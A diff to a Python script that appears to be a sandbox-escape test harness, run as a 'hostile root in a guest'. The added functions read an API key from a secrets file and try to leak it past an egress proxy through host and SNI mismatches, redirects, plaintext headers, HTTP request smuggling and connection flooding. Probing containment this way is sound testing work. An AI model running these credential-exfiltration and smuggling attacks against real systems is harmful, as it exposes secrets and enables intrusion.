@@ -1,6 +1,6 @@
 """A hostile root in a guest: its first argument is an attack below, the others say what there is to reach. What it says
 itself is only for people; what it reached, the host knows."""
-import os, socket, struct, subprocess, sys, threading, time
+import os, re, socket, ssl, struct, subprocess, sys, threading, time
 
 FACTS = dict(word.split("=", 1) for word in sys.argv[2:])
 TCP, UDP, LAN, OWN = int(FACTS["tcp"]), int(FACTS["udp"]), FACTS["lan"], int(FACTS["own"])
@@ -275,6 +275,115 @@ def second_requests():
                  b"Connection: upgrade\r\nUpgrade: evil\r\n\r\n" + evil,
                  b"\r\n" + evil):
         tried(more[:60], lambda: ask(head + more, limit=20))
+
+
+ITS_HOST = "api.anthropic.com"
+
+
+def placeholder():
+    with open("/run/keystone/secrets.sh") as file:
+        return re.search("ANTHROPIC_API_KEY='?([^'\n]+)", file.read()).group(1)
+
+
+def private(host, name):
+    """A tunnel to a host, and in it TLS for a name, whoever answers."""
+    s = socket.create_connection(EXIT, timeout=20)
+    s.sendall(("CONNECT %s:443 HTTP/1.1\r\n\r\n" % host).encode())
+    head = s.recv(4000)
+    if not head.startswith(b"HTTP/1.1 200"):
+        s.close()
+        raise OSError(head[:80])
+    context = ssl.create_default_context()
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    return context.wrap_socket(s, server_hostname=name)
+
+
+def asked_privately(host, name, request):
+    with private(host, name) as s:
+        s.sendall(request)
+        got = b""
+        while len(got) < 4000:
+            more = s.recv(4000)
+            if not more:
+                break
+            got += more
+        return got
+
+
+def with_key(path, host, more="", start="GET %s HTTP/1.1"):
+    return ((start + "\r\nHost: %s\r\nx-api-key: %s\r\n%s\r\n") % (path, host, placeholder(), more)).encode()
+
+
+def secret_by_another_name():
+    for host in ITS_HOST, GOOD:
+        for name in ITS_HOST, GOOD, None:
+            for said in ITS_HOST, GOOD, ITS_HOST + "\r\nHost: " + GOOD, GOOD + "\r\nHost: " + ITS_HOST, ITS_HOST + ":444":
+                if host != GOOD and (host, host) == (name or host, said):
+                    continue
+                tried((host, name, said), lambda: asked_privately(host, name, with_key("/evil", said)))
+    for url in "https://%s/evil" % GOOD, "https://%s/evil" % ITS_HOST, "//%s/evil" % GOOD, "http://%s@%s/evil" % (ITS_HOST, GOOD):
+        tried(url, lambda: asked_privately(ITS_HOST, ITS_HOST, with_key(url, ITS_HOST)))
+    for start in "TRACE %s HTTP/1.1", "CONNECT %s HTTP/1.1", "GET %s HTTP/1.0", "GET %s evil HTTP/1.1", "GET %s HTTP/1.1\r\n evil: 1":
+        tried(start, lambda: asked_privately(ITS_HOST, ITS_HOST, with_key("/evil", ITS_HOST, start=start)))
+
+
+def secret_by_redirect():
+    answer = b""
+    try:
+        answer = asked_privately(ITS_HOST, ITS_HOST, with_key("/to-another", ITS_HOST))
+    except OSError as error:
+        say(error)
+    say(answer[:200])
+    for host in "gitlab.com", GOOD:
+        tried(host, lambda: asked_privately(host, host, with_key("/elsewhere", host)))
+        tried(host, lambda: asked_privately(host, ITS_HOST, with_key("/elsewhere", ITS_HOST)))
+
+
+def secret_in_the_open():
+    for host in ITS_HOST, GOOD:
+        tried(host, lambda: ask(with_key("http://%s/plain" % host, host)))
+    key = placeholder()
+    for line in "x-api-key: " + key, "Proxy-Authorization: Bearer " + key, "Authorization: Bearer " + key:
+        for host in ITS_HOST, GOOD:
+            tried(line[:20], lambda: ask(("CONNECT %s:443 HTTP/1.1\r\n%s\r\n\r\n" % (host, line)).encode(), end=True))
+
+
+def secret_with_second_requests():
+    evil = b"GET /evil HTTP/1.1\r\nHost: evil.example\r\n\r\n"
+    same = with_key("/evil", ITS_HOST)
+    head = with_key("/good", ITS_HOST, start="POST %s HTTP/1.1")[:-2]
+    for more in (b"Content-Length: 0\r\n\r\n" + evil,
+                 b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + same,
+                 b"Transfer-Encoding: chunked\r\nContent-Length: %d\r\n\r\n0\r\n\r\n" % (len(same) + 5) + same,
+                 b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + same,
+                 b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + same,
+                 b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + same,
+                 b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + same,
+                 b"Transfer-Encoding: chunked\r\n\r\n0;\n\r\n\r\n" + same,
+                 b"Transfer-Encoding: chunked\r\n\r\n-1\r\n" + same,
+                 b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(same) + same,
+                 b"Content-Length: +0\r\n\r\n" + same,
+                 b"Content-Length: 0, 9\r\n\r\n" + same,
+                 b"Connection: Content-Length\r\nContent-Length: %d\r\n\r\n" % len(same) + same,
+                 b"Connection: upgrade\r\nUpgrade: evil\r\n\r\n" + evil):
+        tried(more[:60], lambda: asked_privately(ITS_HOST, ITS_HOST, head + more))
+
+
+def secret_crowd():
+    """As many as there may be, each with all that its two ends hold."""
+    held = []
+    for _ in range(250):
+        try:
+            s = private(ITS_HOST, ITS_HOST)
+            s.sendall(with_key("/held", ITS_HOST, "Content-Length: 100000000\r\n") + b"a" * 40000)
+            held.append(s)
+        except OSError as error:
+            say(error)
+            break
+    say(len(held))
+    for s in held:
+        s.close()
 
 
 def large_heads():
